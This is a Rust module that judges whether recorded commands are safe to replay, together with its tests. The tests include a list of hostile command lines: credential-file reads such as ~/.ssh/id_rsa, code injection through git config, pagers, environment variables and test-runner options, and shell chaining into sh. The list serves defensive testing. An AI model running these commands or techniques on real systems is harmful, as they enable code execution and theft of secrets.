//! Reproducing actions: the command to run, whether running it is safe, and whether its output is the recorded one.
//!
//! Nothing is run here. A command is read by a tokenizer that knows the syntax of shells. Chains, substitutions and
//! redirections make it unsafe; the rest is judged by program and arguments. A program that is not listed is unknown,
//! and an unknown program is never run without asking.

mod compare;
mod mask;
mod options;
mod program;

pub use crate::shell::{Pipeline, ShellRefusal, Simple, parse_pipeline};
pub use compare::{Comparison, Extent, Outcome, Recorded, Reproduction, compare};
pub use mask::{Masks, NotAPattern};

use hence_canon::Value;

use crate::wire::Trace;

/// An action with a command that should give its result again.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Candidate {
    /// The id of the action.
    pub action_id: i64,
    /// The label of the action.
    pub label: String,
    /// The command as written.
    pub command: String,
    /// The folder to run it in, relative to the project.
    pub working_directory: Option<String>,
    /// The recorded outcome to compare with.
    pub expected: Recorded,
    /// Whether running it is safe.
    pub judgement: Judgement,
}

/// Returns the candidates of a trace in the order of its actions.
pub fn candidates(trace: &Trace) -> Vec<Candidate> {
    let found = trace.actions().iter().filter_map(|action| {
        // A call that was refused or stopped before it began is not made up for here.
        let status = action.object("result").and_then(|result| result.get("status")?.as_str());
        if matches!(status, Some("refused" | "cancelled")) {
            return None;
        }
        let reproducibility = action.object("reproducibility")?;
        let procedure = reproducibility.get("procedure")?.as_object()?;
        let command = procedure.get("command")?.as_str()?;
        let text = |value: Option<&Value>| value.and_then(Value::as_str).map(str::to_owned);
        Some(Candidate {
            action_id: action.id()?,
            label: action.label().to_owned(),
            command: command.to_owned(),
            working_directory: text(procedure.get("working_directory")),
            expected: Recorded {
                text: text(
                    reproducibility.get("expected_output").and_then(|output| output.get("result_summary")),
                ),
                exit_code: recorded_exit_code(action),
                extent: match command.starts_with("hence replay ") {
                    true => Extent::Statement,
                    false => Extent::Output,
                },
            },
            judgement: judge(command),
        })
    });
    found.collect()
}

/// Returns the exit code that an action records: where it says how to reproduce it, in its evidence, or in its result.
fn recorded_exit_code(action: &crate::wire::Action) -> Option<i64> {
    let expected =
        action.object("reproducibility").and_then(|how| how.get("expected_output")?.get("exit_code"));
    let evidence = action.member("evidence").and_then(Value::as_array).into_iter().flatten();
    let evidence = evidence.filter_map(|one| one.get("exit_code")?.as_i64()).next();
    let result = action.object("result").and_then(|result| result.get("exit_code")?.as_i64());
    expected.and_then(Value::as_i64).or(evidence).or(result)
}

hence_canon::words! {
    /// Whether a command may be run to reproduce a result, best first.
    pub enum CommandClass {
        /// Known to read, build or test within the working directory.
        Safe = "safe",
        /// Known, but it runs recipes of the project or reads outside the working directory: to be reviewed first.
        Caution = "caution",
        /// The program is not listed.
        Unknown = "unknown",
        /// It changes things, reaches the network, or needs a shell.
        Unsafe = "unsafe",
    }
}

/// A class with the reason for it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Judgement {
    /// The class.
    pub class: CommandClass,
    /// The reason, in a few words.
    pub reason: String,
    /// The programs to run; `None` when the line needs a shell.
    pub pipeline: Option<Pipeline>,
}

/// Judges a command line. A pipeline has the class of its worst program.
pub fn judge(line: &str) -> Judgement {
    let pipeline = match parse_pipeline(line) {
        Ok(pipeline) => pipeline,
        Err(refusal) => {
            return Judgement { class: CommandClass::Unsafe, reason: refusal.to_string(), pipeline: None };
        }
    };
    let worst = pipeline.stages.iter().map(program::judge).max_by_key(|(class, _)| *class);
    let (class, reason) = worst.unwrap_or((CommandClass::Unknown, "nothing to run".to_owned()));
    Judgement { class, reason, pipeline: Some(pipeline) }
}

#[cfg(test)]
mod class_tests {
    use super::*;
    use CommandClass::{Caution, Safe, Unknown, Unsafe};

    /// Lines of a hostile trace: none of them may run.
    const HOSTILE: &[&str] = &[
        // Options attached, shortened, taken for values, or read from files.
        "pytest @/etc/passwd",
        "pytest @args",
        "pytest -k -pevil",
        "pytest --durations --rootdir=/x",
        "pytest --ignore-glob=x --override-ini=addopts=-pevil",
        "pytest --import-mode=importlib -c evil.ini",
        "python3 -m pytest -W error::evil.Warning",
        "python3 -mpytest -pevil",
        "python -c 'import os'",
        "python -Ic 'import os'",
        "python3 evil.py",
        "cargo test --test --config=evil.toml",
        "cargo test -p --config=target.runner",
        "cargo test --config evil.toml",
        "cargo test --config=build.rustc-wrapper='./evil'",
        "cargo test --targe=../x.json",
        "cargo test -Zbuild-std",
        "cargo test -- --logfile x",
        "cargo run",
        "cargo bench --bench evil",
        "cargo nextest run",
        "go test -exec=./evil ./...",
        "go test --exec ./evil",
        "go test -toolexec=./evil",
        "go test -vettool=./evil",
        "go test -ldflags=-extld=./evil ./...",
        "go test -gcflags=-x -asmflags=x",
        "go test github.com/evil/pkg",
        "go test evil.example/pkg/...",
        "go vet ./...",
        "go run .",
        "npm test --node-options=--require=./evil.js",
        "npm run test --if-present --script-shell=./evil",
        "npm run build",
        "npx evil",
        // Programs that run programs.
        "find . -exec touch x +",
        "find . -delete",
        "xargs -a list touch",
        "env touch x",
        "sed -n 1e touch a",
        "sed 's/x/id/e' a",
        "sed -i s/a/b/ a",
        "awk 'BEGIN{system(\"id\")}'",
        "gawk -l evil 'BEGIN{}'",
        "tar xf a.tar --to-command=./evil",
        "tar --checkpoint=1 --checkpoint-action=exec=./evil -cf /dev/null a",
        "make",
        "make test",
        "make -f evil.mk test",
        "make SHELL=./evil test",
        "rg --pre ./evil x",
        "less a",
        "vim -c '!id' a",
        "busybox sh -c id",
        "perl -e 'system 1'",
        "node --eval '1'",
        "ruby -e 'system(1)'",
        "ssh -oProxyCommand=id host",
        "openssl s_client -connect evil:443",
        // Git, which runs whatever its configuration says.
        "git -c core.pager=./evil log",
        "git -ccore.fsmonitor=./evil status",
        "git --config-env=core.pager=X log",
        "git --exec-path=./evil status",
        "git --git-dir=../evil log",
        "git --work-tree=/ diff",
        "git -p log",
        "git fetch --upload-pack=./evil",
        "git ls-remote --upload-pack=./evil x",
        "git clone -u ./evil x",
        "git archive --remote=ext::./evil",
        "git grep -O./evil x",
        "git log --ext-dif",
        "git log --outpu x",
        "git diff --textconv",
        "git diff --no-index /etc/passwd a",
        "git diff --abbrev --no-index /etc/passwd a",
        "git diff -O/etc/passwd",
        "git log -- ../x",
        "git log --show-signature",
        "git show --ext-diff",
        "git blame a",
        "GIT_SSH_COMMAND=./evil git log",
        "GIT_CONFIG_COUNT=1 git log",
        "GIT_DIR=/x git log",
        "GIT_EXTERNAL_DIFF=./evil git diff",
        "PAGER=./evil git log",
        "LESSOPEN='|./evil %s' cat a",
        // Paths that lead out.
        "cat /etc/passwd",
        "cat ../a",
        "cat a/../../b",
        "cat ~/.ssh/id_rsa",
        "cat file:/etc/passwd",
        "ls -R /",
        "ls --color /etc",
        "grep -r x ../..",
        "grep --color x /etc/passwd",
        "grep --colour=always x /etc/passwd",
        "grep -e x /etc/passwd",
        "grep -f/etc/passwd a",
        "grep --include-from=/x y z",
        "hence verify /etc/x",
        "hence verify r --execute",
        "hence resume r --trust-imported",
        "hence verify r --store ../x",
        // What a shell would do.
        "cat a > b",
        "cat < /etc/passwd",
        "cat a || touch x",
        "cat a & touch x",
        "cat a\ntouch x",
        "cat ${IFS}a",
        "cat <(id)",
        "cat a # x\ntouch y",
        "PATH=. cat a",
        "BASH_ENV=x cat a",
        "cat a | sh",
        "exec touch x",
        "'./cat' a",
        "$0",
        "!!",
    ];

    #[test]
    fn no_line_of_a_hostile_trace_is_safe() {
        for line in HOSTILE {
            let judged = judge(line);
            assert_ne!(judged.class, Safe, "{line}: {}", judged.reason);
        }
    }

    #[test]
    fn what_people_write_stays_safe() {
        for line in [
            "ls --color=never src",
            "ls --color src",
            "grep --color=always -rn x src",
            "grep --color /api src/routes.rs",
            "git status --porcelain",
            "git status --porcelain=v2",
            "git log --pretty=oneline -3",
            "git log --abbrev=8 --since yesterday",
            "cargo test -p core --test it name",
            "go test ./pkg/... -run 'TestA|TestB'",
            "go test pkg",
            "pytest tests/test_a.py -k 'a and not b'",
        ] {
            let judged = judge(line);
            assert_eq!(judged.class, Safe, "{line}: {}", judged.reason);
        }
    }

    #[test]
    fn commands_are_judged_by_program_and_arguments() {
        for (line, class) in [
            ("pytest -q tests", Safe),
            ("python -m pytest -q", Safe),
            ("python3 -c 'import os'", Unsafe),
            ("cargo test -- --nocapture", Safe),
            ("cargo publish", Unsafe),
            ("cargo --config x test", Caution),
            ("npm run build", Caution),
            ("npm test", Safe),
            ("npm test --silent", Safe),
            ("npm test '--node-options=--import=data:text/javascript,x'", Caution),
            ("npm test -C DIR", Caution),
            ("npm test --prefi=DIR", Caution),
            ("npm test --script-shel=FILE", Caution),
            ("npm test --userconfig=FILE", Caution),
            ("npm test -- --require ./evil.js", Caution),
            ("npm test evil.js", Caution),
            ("cargo test --manifest-path /any/Cargo.toml", Caution),
            ("cargo test --manifest-path=sub/Cargo.toml", Caution),
            ("cargo test --target-dir=/home/x", Caution),
            ("cargo +nightly test", Caution),
            ("cargo test -p core --lib", Safe),
            ("cargo test -pcore name", Safe),
            ("cargo test -- --logfile=x", Caution),
            ("cargo test -Zunstable-options", Caution),
            ("go test ./...", Safe),
            ("go test -run TestX -count=1 ./pkg", Safe),
            ("go test -coverprofile=/home/x/.profile", Caution),
            ("go test -coverprofile x", Caution),
            ("go test -modfile=/tmp/evil.mod", Caution),
            ("go test /tmp/evil_test.go", Caution),
            ("pytest -pPLUGIN", Caution),
            ("pytest -p PLUGIN", Caution),
            ("pytest -qpPLUGIN", Caution),
            ("pytest -c/tmp/evil.ini", Caution),
            ("pytest -oaddopts=--x", Caution),
            ("pytest --rootd=/x", Caution),
            ("pytest -vvx -k 'a and b' tests/test_a.py::test_b", Safe),
            ("pytest -rA --tb=short --maxfail=1", Safe),
            ("pytest --junitx=x", Unsafe),
            ("python3 -m pytest -c/tmp/evil.ini", Caution),
            ("grep -f/etc/shadow x", Caution),
            ("grep -rnf /etc/shadow x", Caution),
            ("grep -rn -m 5 /api src", Safe),
            ("git log -5 --oneline", Safe),
            ("git log --format=%H -n3", Safe),
            ("git diff --textconv", Caution),
            ("git diff --no-index /etc/passwd x", Caution),
            ("hence verify record/trace.ndjson --execute", Caution),
            ("hence verify record/trace.ndjson --level spec", Safe),
            ("ls -la src", Safe),
            ("ls --hyperlink", Caution),
            ("npm run deploy", Unknown),
            ("npm install", Unsafe),
            ("go test -exec ./x ./...", Unsafe),
            ("make test", Caution),
            ("make install", Unsafe),
            ("git diff HEAD~1 HEAD..main", Safe),
            ("git log | cat", Safe),
            ("git log --oneline | tee log.txt", Unsafe),
            ("git diff --outp=x", Unsafe),
            ("git -c core.pager=evil log", Unsafe),
            ("git -C ../other status", Caution),
            ("git frobnicate", Unknown),
            ("git push", Unsafe),
            ("ls ..", Caution),
            ("ls ~", Caution),
            ("cat src/../../x", Caution),
            ("grep /api src/routes.rs", Safe),
            ("grep -r root /etc", Caution),
            ("grep -f /etc/shadow x", Caution),
            ("grep --file=/etc/shadow x", Caution),
            ("grep --fil=x y", Caution),
            ("hence replay vendor-choice", Safe),
            ("hence verify /etc/x", Caution),
            ("hence --store /x gc", Unknown),
            ("LD_PRELOAD=x ls", Unsafe),
            ("GIT_PAGER=cat git log", Safe),
            ("GIT_PAGER=evil git log", Unsafe),
            ("GIT_EXTERNAL_DIFF=evil git diff", Unsafe),
            ("CI=1 npm test", Safe),
            ("FOO=1 npm test", Caution),
            ("./run.sh", Unknown),
            ("/bin/rm x", Unsafe),
            ("sudo ls", Unsafe),
            ("sh -c ls", Unsafe),
            ("xargs rm", Unsafe),
            ("echo hi", Unknown),
            ("", Unknown),
            ("A=1", Unknown),
            ("ls; ls", Unsafe),
        ] {
            assert_eq!(judge(line).class, class, "{line}");
        }
    }
}
